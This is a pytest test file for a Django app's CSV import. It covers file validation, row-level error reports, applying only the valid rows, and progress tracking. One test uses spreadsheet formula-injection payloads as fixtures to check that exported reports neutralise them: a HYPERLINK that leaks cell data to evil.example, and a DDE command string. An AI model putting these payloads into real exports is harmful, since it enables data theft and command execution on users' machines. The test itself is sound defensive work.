"""CSV import: checked at upload (encoding, columns), validated row by row, nothing applied
from a file with errors unless "apply valid rows", a downloadable report and progress."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from credentials.models import LanguageCertificate, TrainingEnrollment
from integration import imports
from integration.models import CsvImport

from .conftest import days_ago, enroll, http

pytestmark = pytest.mark.django_db


def upload(token, content: bytes, kind="enrollments", **extra):
    data = {"file": SimpleUploadedFile("rows.csv", content, "text/csv"), "kind": kind, **extra}
    return http(token).post("/api/v1/imports/", data, format="multipart")


@pytest.fixture
def enrollments(case_at, institution):
    first = case_at.enrollments.get(institution=institution)
    second = enroll(case_at, institution, programme="bridging")
    return first, second


@pytest.fixture
def eager(settings):
    """Run the import task in-process (the worker is tested in test_celery_worker.py)."""
    from config.celery import app

    app.conf.task_always_eager = True
    yield
    app.conf.task_always_eager = False


def run_queued(django_capture_on_commit_callbacks, token, content, **kwargs):
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(token, content, **kwargs)
    return response


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        ("enrollment_id,version\n1,1\n".encode("utf-16"), "UTF-8"),
        (b"enrollment_id,version,progress\n1,1,50\n", "unknown columns: progress"),
        (b"enrollment_id,progress_percent\n1,50\n", "missing columns: version"),
        (b"enrollment_id,version\n", "no data rows"),
        (b'enrollment_id,version\n"1,1\n', "CSV"),
    ],
)
def test_bad_files_are_refused_at_once_with_a_problem(educator_token, content, fragment):
    response = upload(educator_token, content)
    assert response.status_code == 400, response.json()
    assert response["Content-Type"] == "application/problem+json"
    assert fragment in response.json()["errors"]["file"][0]
    assert not CsvImport.objects.exists()


def test_uploads_need_the_scope_of_their_kind(employment_token, educator_token):
    response = upload(employment_token, b"enrollment_id,version\n1,1\n")
    assert response.status_code == 403 and "training:write" in response.json()["detail"]
    response = upload(
        educator_token, b"permit_id,version,decision,decided_on\n1,1,granted,x\n", kind="permits"
    )
    assert response.status_code == 403
    response = http(educator_token).post("/api/v1/imports/", {"kind": "enrollments"}, format="json")
    assert response.status_code == 415


def test_a_file_with_errors_applies_nothing(
    eager, django_capture_on_commit_callbacks, educator_token, enrollments
):
    first, second = enrollments
    content = (
        "enrollment_id;version;progress_percent\n"  # semicolons, as Finnish Excel saves
        f"{first.pk};1;40\n"
        f"{second.pk};9;50\n"  # stale version
        "999999;1;10\n"  # not ours
        f"{second.pk};1;lots\n"
    ).encode()
    response = run_queued(django_capture_on_commit_callbacks, educator_token, content)
    assert response.status_code == 202
    status = http(educator_token).get(f"/api/v1/imports/{response.json()['id']}/").json()
    assert status["status"] == "rejected"
    assert (status["progress_percent"], status["applied_rows"], status["error_rows"]) == (100, 0, 3)
    assert TrainingEnrollment.objects.get(pk=first.pk).progress_percent == 0
    report = http(educator_token).get(status["report_url"])
    assert report["Content-Type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(report.content.decode())))
    assert lines[0] == ["row", "status", "errors"]
    assert lines[1] == ["2", "not_applied", ""]
    assert lines[2][:2] == ["3", "error"] and lines[2][2].startswith("stale_version:")
    assert lines[3][:2] == ["4", "error"] and lines[3][2].startswith("id:")
    assert lines[4][:2] == ["5", "error"] and lines[4][2].startswith("progress_percent:")


def test_apply_valid_rows_applies_the_good_ones(
    eager, django_capture_on_commit_callbacks, educator_token, enrollments
):
    first, second = enrollments
    content = (
        "enrollment_id,version,action,progress_percent,completed_on,reason\n"
        f"{first.pk},1,update,40,,\n"
        f"{second.pk},1,interrupt,,,\n"  # reason missing
        f"{second.pk},1,complete,,{days_ago(0).isoformat()},\n"
    ).encode()
    response = run_queued(
        django_capture_on_commit_callbacks, educator_token, content, apply_valid_rows="true"
    )
    imp = CsvImport.objects.get(pk=response.json()["id"])
    assert imp.status == "done"
    assert [r["status"] for r in imp.report] == ["applied", "error", "applied"]
    assert TrainingEnrollment.objects.get(pk=first.pk).progress_percent == 40
    assert TrainingEnrollment.objects.get(pk=second.pk).state == "completed"


def test_language_results_import(
    eager, django_capture_on_commit_callbacks, educator_token, case_at
):
    content = (
        "case_id,language,test,taken_on,speaking,listening,reading,writing\n"
        f"{case_at.pk},fi,yki,2026-01-10,3,3,4,B1\n"
    ).encode()
    response = run_queued(
        django_capture_on_commit_callbacks, educator_token, content, kind="language_results"
    )
    assert CsvImport.objects.get(pk=response.json()["id"]).status == "done"
    certificate = LanguageCertificate.objects.get(case=case_at)
    assert (certificate.speaking, certificate.reading) == ("B1", "B2")  # YKI 3 = B1


def test_progress_is_stored_while_the_task_runs(educator_token, enrollments, monkeypatch):
    """Progress is committed row batch by row batch, so a poller sees it move."""
    first, _second = enrollments
    rows = "".join(f"{first.pk},1,{n + 1}\n" for n in range(30))
    response = upload(educator_token, f"enrollment_id,version,progress_percent\n{rows}".encode())
    imp = CsvImport.objects.get(pk=response.json()["id"])
    assert (imp.status, imp.progress_percent) == ("pending", 0)
    seen = []
    real = imports._progress

    def watch(imp_, status, processed, **fields):
        real(imp_, status, processed, **fields)
        seen.append(CsvImport.objects.get(pk=imp_.pk).progress_percent)

    monkeypatch.setattr(imports, "_progress", watch)
    imports.run_csv_import(import_id=imp.pk)
    assert seen == sorted(seen) and 0 < seen[1] < 100
    imp.refresh_from_db()
    assert imp.status == "done" and imp.progress_percent == 100
    assert imp.applied_rows == 1 and imp.error_rows == 29  # one version, applied once


@pytest.mark.parametrize("route", ["api", "web"])
def test_the_row_report_never_starts_a_formula(client, educator_token, institution, route):
    """Issue 10: every CSV Polku writes goes through recruitment.csv_export."""
    from recruitment.models import Role
    from tests import factories

    payload = '=HYPERLINK("https://evil.example/"&A1)'
    user = factories.user_with_role(Role.EDUCATOR, institution, username="edu.report")
    imp = CsvImport.objects.create(
        organisation=institution,
        uploaded_by=user,
        kind="enrollments",
        status="rejected",
        report=[
            {"row": 2, "status": "not_applied", "errors": {}},
            {"row": 3, "status": "-error", "errors": {"@reason": [payload]}},
            {"row": 4, "status": "error", "errors": {"+1+cmd|' /C calc'!A0": ["x"]}},
        ],
    )
    if route == "api":
        from integration.models import ApiClient

        imp.uploaded_by, imp.client = None, ApiClient.objects.get(organisation=institution)
        imp.save()
        response = http(educator_token).get(f"/api/v1/imports/{imp.pk}/report/")
    else:
        client.force_login(user)
        response = client.get(f"/imports/{imp.pk}/report.csv")
    assert response.status_code == 200
    text = response.content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1:] == [
        ["2", "not_applied", ""],
        ["3", "'-error", f"'@reason: {payload}"],
        ["4", "error", "'+1+cmd|' /C calc'!A0: x"],
    ]
    assert text.splitlines()[1] == '2,"not_applied",""'  # row numbers stay numbers
